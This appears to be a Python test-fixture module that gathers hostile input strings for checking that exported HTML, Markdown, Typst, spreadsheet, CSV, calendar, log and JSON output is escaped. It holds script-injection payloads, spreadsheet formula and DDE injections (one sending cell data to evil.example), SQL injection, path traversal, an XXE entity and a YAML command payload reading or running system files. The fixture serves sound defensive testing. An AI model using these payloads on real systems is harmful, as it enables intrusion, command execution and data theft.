"""What an unfriendly visitor may type, or put in a file, wherever words are taken.

One list for all outputs: HTML, Typst, DOCX, workbooks, CSV, calendars, JSON, logs.
"""

MARKUP = {
    "script": "<script>document.title='owned'</script>",
    "handler": "<img src=x onerror=\"document.title='owned'\">",
    "out of an attribute": "'><svg/onload=\"document.title='owned'\"> \" autofocus onfocus='x",
    "end of a style": "</style></title></textarea><script>document.title='owned'</script>",
    "entities": "&lt;b&gt; &#x3C;i&#x3E; &amp;amp; &colon;",
}

MARKDOWN = {
    "link": "[cliquez](https://evil.example/a) [x][y]\n\n[y]: https://evil.example",
    "bare addresses": "https://evil.example/b www.evil.example c@evil.example <https://evil.example>",
    "picture": "![x](https://evil.example/pixel.png)",
    "mathematics": "$\\frac{a}{b}$ $$x$$ \\(x\\)",
    "directives": ":material/delete: :streamlit: :red[rouge] :blue-background[b] :smile: :small[x]",
    "structure": "# titre\n\n- un\n- deux\n\n> cité\n\n```\ncode\n```\n***gras*** ~~biffé~~ `x`",
    "start of a list": "1. un",
    "start of a bullet": "+ deux",
    "quoted": "> cité",
    "table": "| a | b |\n|---|---|\n| c | d |",
}

TYPST = {
    "function": '#read("/etc/passwd") #eval("1+1") #include "report.typ" #panic("x")',
    "markup": "= Titre\n- a\n+ b\n/ c: d\n*gras* _it_ `x` $ x^2 $ <label> @ref // fin /* fin",
    "brackets": "]} #[ #{ \\u{1F600} \\ \" ' ;",
}

FORMULAS = {
    "formula": "=cmd|' /C calc'!A0",
    "sum": "=1+1",
    "link": '=HYPERLINK("https://evil.example?"&A1,"Erreur")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "space": " =1+1",
    "wide": "＝1+1",
    "array": "{=1+1}",
    "separators": 'a;=1+1,"=1+1"\n=1+1;b',
    "DDE": '=DDE("cmd";"/C calc";"x")',
}

LINES = {
    "calendar": "Nom\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:intrus\r\nATTACH:https://evil.example",
    "headers": "Nom\r\nSet-Cookie: jalon_device=volé\r\n\r\n<b>corps</b>",
    "log": 'Nom\n2026-11-29 00:00:00 ERROR fausse ligne\r127.0.0.1 - "GET /"',
    "terminal": "Nom\x1b[2J\x1b[31m\x1b]0;titre\x07 \x9b31m",
    "rare line ends": "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i",
    "folding": "é" * 180,
}

CHARACTERS = {
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "NUL": "a\x00b",
    "backwards": "annexe\u202egnp.exe\u202c \u2066x\u2069",
    "invisible": "a\u200bb\u200dc\ufeffd\u00ade\u2060f",
    "not characters": "a\ufffeb\uffffc",
    "half a character": "a\ud800b",
    "private": "\ue000\uf8ff",
    "beyond": "𝒜 👩‍👩‍👧 𠜎",
    "piled": "z" + "\u0301" * 60,
    "written otherwise": "ﬁ ⒜ Å K ℌ",
}

FORMATS = {
    "placeholders": "{name} {0} {count.__class__} {{x}} %s %(x)s ${x} {0.__init__.__globals__}",
    "query": "'; DROP TABLE assessments; -- \" OR 1=1 /*",
    "path": "../../../etc/passwd ..\\..\\x /etc/passwd file:///etc/passwd C:\\x",
    "address": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "JSON": '","admin":true,"x":"\\u0000',
    "YAML": "!!python/object/apply:os.system ['id']\n&a [*a]\n--- \n: - {",
    "XML": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "longest": "W" * 190,
}

BY_KIND = {
    "markup": MARKUP,
    "markdown": MARKDOWN,
    "typst": TYPST,
    "formulas": FORMULAS,
    "lines": LINES,
    "characters": CHARACTERS,
    "formats": FORMATS,
}

HOSTILE = {
    f"{kind}: {name}": text for kind, texts in BY_KIND.items() for name, text in texts.items()
}
"""All of them, by a name a test can show."""


def sent(text: str) -> str:
    """The text as a browser can send it: in whole characters."""
    return text.encode("utf-8", "replace").decode("utf-8")
